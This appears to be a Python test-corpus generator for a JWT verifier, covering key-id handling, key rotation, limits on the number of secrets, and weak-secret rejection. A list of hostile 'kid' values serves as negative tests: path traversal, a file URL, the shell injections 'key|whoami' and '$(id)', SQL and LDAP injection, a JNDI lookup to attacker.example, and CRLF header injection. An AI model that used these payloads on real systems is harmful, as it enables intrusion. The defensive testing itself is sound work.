# SPDX-License-Identifier: Apache-2.0
"""The choice of the secret: kid in every form, several secrets, expired secrets, weak ones."""

import hashlib
import json

from making import ATTACKER, HEADER, NOW, OTHER_SECRET, SECRET, Key, b64u, person, segments, token

THIRD = hashlib.sha256(b"a third secret").hexdigest()


def with_kid(kid, key=SECRET, payload=None):
    return token('{"alg":"HS256","kid":%s}' % kid, payload, key)


PATHS = [
    ("a device", "/dev/null", ""), ("a device by a path", "../../../../dev/null", "\x00"),
    ("a file by a path", "../../css/site.css", "body{}"), ("a file by a URL", "file:///etc/hostname", "localhost\n"),
    ("a command", "key|whoami", "root"), ("a substitution", "$(id)", ""),
    ("a statement", "x' UNION SELECT 'k';--", "k"),
    ("a filter", "*)(uid=*))(|(uid=*", ""), ("a lookup", "${jndi:ldap://attacker.example/a}", ""),
    ("a format", "%s%s%n", "%s%s%n"), ("a header", "a\\r\\nSet-Cookie: a=b", ""),
    ("a URL", "https://attacker.example/k", ATTACKER),
    ("nothing", "", ""), ("zero", "0", "0"), ("the word null", "null", "null"),
    ("the word undefined", "undefined", "undefined"),
    ("its own key", ATTACKER, ATTACKER), ("a name of objects", "__proto__", "[object Object]"),
    ("three thousand letters", "k" * 3000, "k" * 3000),
]


def add_kid_as_a_path(corpus):
    named = [Key(SECRET, "production")]
    g = corpus.group("A8", "A kid is compared with the ids of the secrets and used for nothing else.")
    for name, kid, key in PATHS:
        whole = with_kid(f'"{kid}"', key)
        g.add(f"kid as {name} and the key that it leads to", whole, "signature_mismatch")
        g.add(f"kid as {name} and the key that it leads to among ids", whole, "unknown_key", keys=named)
        good = with_kid(f'"{kid}"')
        g.add(f"kid as {name} among ids", good, "unknown_key", keys=named)
        g.add(f"kid as {name} where no secret has an id", good)


def add_kid_and_ids(corpus):
    a, b, c = Key(SECRET, "a"), Key(OTHER_SECRET, "b"), Key(THIRD)
    g = corpus.group("A8", "If a secret has the kid as its id, only that secret is tried.")
    g.add("the first secret by its id", with_kid('"a"'), keys=[a, b], tells={"key_id": "a"})
    g.add("the second secret by its id", with_kid('"b"', OTHER_SECRET), keys=[a, b], tells={"key_id": "b"})
    g.add("the second secret under the id of the first", with_kid('"a"', OTHER_SECRET), "signature_mismatch",
          keys=[a, b])
    g.add("the first secret under the id of the second", with_kid('"b"'), "signature_mismatch", keys=[a, b])
    g.add("a secret without an id under the id of another", with_kid('"a"', THIRD), "signature_mismatch", keys=[a, c])
    g.add("an id with an escape", with_kid('"\\u0061"'), keys=[a, b], tells={"key_id": "a"})
    g.add("an id of an umlaut as an escape", with_kid('"\\u00fc"'), keys=[Key(SECRET, "\u00fc")])
    g.add("an id of an umlaut as it is", with_kid('"\u00fc"'), keys=[Key(SECRET, "\u00fc")])
    g.add("an id of 255 bytes", with_kid('"%s"' % ("i" * 255)), keys=[Key(SECRET, "i" * 255)])

    g = corpus.group("A8", "If secrets have ids but none has the kid, the key is unknown.")
    for name, kid in [
        ("another id", '"c"'), ("an empty id", '""'), ("the id in another case", '"A"'),
        ("the id before a space", '"a "'),
        ("the id after a space", '" a"'), ("the id with an extra letter", '"aa"'),
        ("the id before a newline", '"a\\n"'),
        ("the id with a zero width space", '"a\u200b"'), ("the id in Cyrillic", '"\u0430"'),
        ("the id in full width", '"\uff41"'),
        ("both ids", '"a,b"'), ("a number as text", '"0"'),
    ]:
        g.add(f"{name} with the first secret", with_kid(kid), "unknown_key", keys=[a, b])
    g.add("a decomposed id", with_kid('"u\u0308"'), "unknown_key", keys=[Key(SECRET, "\u00fc")])
    g.add("an id cut short", with_kid('"produc"'), "unknown_key", keys=[Key(SECRET, "production")])
    g.add("an unknown kid and a secret without an id", with_kid('"c"', THIRD), "unknown_key",
          keys=[a, c])
    g.add("an unknown key before a malformed signature", with_kid('"c"').rpartition(b".")[0] + b".AA", "unknown_key",
          "The key is checked before the signature.", keys=[a])
    g.add("crit before an unknown key", token('{"alg":"HS256","kid":"c","crit":[]}'), "critical_header",
          "The header is checked before the key.", keys=[a])
    g.add("a kid with a NUL", with_kid('"a\\u0000"'), "malformed_header",
          "A string in a header must not contain a NUL.", keys=[a])
    g.add("a kid twice", token('{"alg":"HS256","kid":"a","kid":"a"}'), "malformed_header",
          "A header must not name a member twice.", keys=[a])

    g = corpus.group("A8", "Without a kid, or with one that isn't a string, every secret is tried.")
    others = [("null", "null"), ("true", "true"), ("a number", "0"), ("an array", '["b"]'), ("an object", '{"b":1}'),
              ("a real", "1.5")]
    for name, kid in others:
        g.add(f"kid as {name} and the second secret", with_kid(kid, OTHER_SECRET), keys=[a, b], tells={"key_id": "b"})
        g.add(f"kid as {name} and an unknown secret", with_kid(kid, ATTACKER), "signature_mismatch", keys=[a, b])
    g.add("no kid and the second secret", token(key=OTHER_SECRET), keys=[a, b], tells={"key_id": "b"})
    g.add("no kid and the secret without an id", token(key=THIRD), keys=[a, b, c], tells={"key_id": None})
    g.add("no kid and an unknown secret", token(key=ATTACKER), "signature_mismatch", keys=[a, b, c])
    g.add("Kid with a capital", token('{"alg":"HS256","Kid":"zz"}'), keys=[a])
    g.add("kid in the payload", token(payload=person(kid="zz")), keys=[a])
    g.add("kid in a nested object", token('{"alg":"HS256","x":{"kid":"zz"}}'), keys=[a])


def add_rotation(corpus):
    old, new = Key(SECRET, "old", NOW - 1), Key(OTHER_SECRET, "new")
    g = corpus.group("K4", "A secret is valid up to its last second; after that, it is as if it didn't exist.")
    g.add("a secret in its last second", token(), keys=[Key(SECRET, "old", NOW), new], tells={"key_id": "old"})
    g.add("a secret a second later", token(), "signature_mismatch", keys=[old, new])
    g.add("the id of an expired secret", with_kid('"old"'), "unknown_key", keys=[old, new])
    g.add("the id of an expired secret and no other id", with_kid('"old"', THIRD), keys=[old, Key(THIRD)])
    g.add("the id of an expired secret signed by it", with_kid('"old"'), "signature_mismatch",
          keys=[old, Key(THIRD)])
    g.add("no secret left", token(), "unknown_key", keys=[old])
    g.add("no secret left without an id", token(), "unknown_key", keys=[Key(SECRET, None, NOW - 1)])
    g.add("no secret left and a malformed signature", token() + b"A", "unknown_key", keys=[old])
    g.add("a secret until the year 9999", token(), keys=[Key(SECRET, None, 253402300799)])
    g.add("a secret until the epoch", token(), "unknown_key", keys=[Key(SECRET, None, 0)])

    g = corpus.group("K4", "There are at most eight secrets, no two with the same id, and each of them is tried.")
    eight = [hashlib.sha256(b"secret %d" % i).hexdigest() for i in range(9)]
    named = [Key(secret, f"k{at}") for at, secret in enumerate(eight[:8])]
    for i in range(8):
        g.add(f"secret {i} of eight", token(key=eight[i]), keys=named, tells={"key_id": f"k{i}"})
    g.add("a ninth secret that the verifier does not have", token(key=eight[8]), "signature_mismatch",
          keys=list(map(Key, eight[:8])))
    g.add("nine secrets", token(), "invalid_argument", keys=list(map(Key, eight)))
    g.add("two secrets with the same id", token(), "invalid_argument", keys=[Key(SECRET, "a"), Key(OTHER_SECRET, "a")])
    g.add("one secret with two ids", token(), keys=[Key(SECRET, "a"), Key(SECRET, "b")], tells={"key_id": "a"})
    g.add("two secrets without an id", token(), keys=[Key(OTHER_SECRET), Key(SECRET)], tells={"key_id": None})
    general = json.dumps({"payload": b64u(person()).decode(), "signatures": [
        {"protected": b64u(HEADER).decode(), "signature": segments(token(key=key))[2].decode()}
        for key in (ATTACKER, SECRET)]})
    g.add("one payload under two signatures", general, "malformed_token", "There is one signature, in compact form.")
    good = token()
    g.add("a second signature in a token", good + b"." + segments(token(key=ATTACKER))[2], "malformed_token")


def add_weak(corpus):
    g = corpus.group("K1", "An empty secret is refused in every format, so no token can be signed without one.")
    for form in ("text", "weak", "hex", "base64"):
        g.add(f"an empty secret as {form}", token(key=""), "weak_secret", keys=[Key("", form=form)])
    for form in ("text", "weak"):
        g.add(f"an empty secret with an id as {form}", with_kid('"a"', ""), "weak_secret",
              keys=[Key("", "a", form=form)])
    g.add("an empty secret beside a good one", token(), "weak_secret", keys=[Key(SECRET), Key("")])
    g.add("a MAC without a key", token(key=""), "signature_mismatch", "A missing key doesn't count as an empty one.")
    g.add("a MAC without a key under an unknown kid", with_kid('"zz"', ""), "unknown_key",
          "A missing key doesn't count as an empty one.", keys=[Key(SECRET, "a")])
    g.add("a MAC without a key when no secret is left", token(key=""), "unknown_key",
          "A missing key doesn't count as an empty one.", keys=[Key(SECRET, None, 0)])
    g.add("a good MAC of a good secret with an id", with_kid('"a"'), keys=[Key(SECRET, "a")])

    g = corpus.group("K2", "A secret has at least 32 bytes, unless the caller explicitly allows a weak one.")
    for length in (1, 2, 6, 8, 16, 24, 31):
        short = SECRET[:length]
        g.add(f"a secret of {length} bytes", token(key=short), "weak_secret", keys=[Key(short)])
        g.add(f"a secret of {length} bytes allowed as weak", token(key=short), keys=[Key(short, form="weak")],
              warnings="weak_secret:-")
    for length in (32, 33, 63, 64):
        g.add(f"a whole secret of {length} bytes", token(key=SECRET[:length]), keys=[Key(SECRET[:length])], warnings="")
    for length in (65, 128, 4096):
        long = (SECRET * 64)[:length]
        g.add(f"a long secret of {length} bytes", token(key=long), keys=[Key(long)], warnings="")
    g.add("a secret of 4097 bytes", token(), "invalid_argument", keys=[Key("s" * 4097)])
    g.add("a long secret allowed as weak", token(key="s" * 32), keys=[Key("s" * 32, form="weak")],
          warnings="")
    raw = bytes.fromhex(SECRET)
    g.add("a secret of 31 bytes in hex", token(key=raw[:31]), "weak_secret", keys=[Key(SECRET[:62], form="hex")])
    g.add("a secret of 32 bytes in hex", token(key=raw), keys=[Key(SECRET, form="hex")], warnings="")
    g.add("a secret of 32 bytes in hex capitals", token(key=raw), keys=[Key(SECRET.upper(), form="hex")])
    g.add("half a byte in hex", token(key=raw), "invalid_argument", keys=[Key(SECRET + "0", form="hex")])
    g.add("a letter that is not a hex digit", token(key=raw), "invalid_argument",
          keys=[Key(SECRET[:63] + "g", form="hex")])
    g.add("a common word as the secret", token(key="secret"), "weak_secret", keys=[Key("secret")])


def add(corpus):
    add_kid_as_a_path(corpus)
    add_kid_and_ids(corpus)
    add_rotation(corpus)
    add_weak(corpus)
